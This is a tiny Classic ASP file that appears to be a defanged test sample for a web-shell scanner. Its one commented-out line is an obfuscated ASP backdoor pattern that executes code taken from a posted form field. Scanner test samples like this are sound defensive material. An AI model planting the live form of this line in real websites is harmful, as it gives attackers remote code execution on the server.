<%
' exhunt test sample, defanged: the line below is a VBScript comment
' Execute(Request.Form(StrReverse(("t" & ("nuh" & "xe")))))
%>
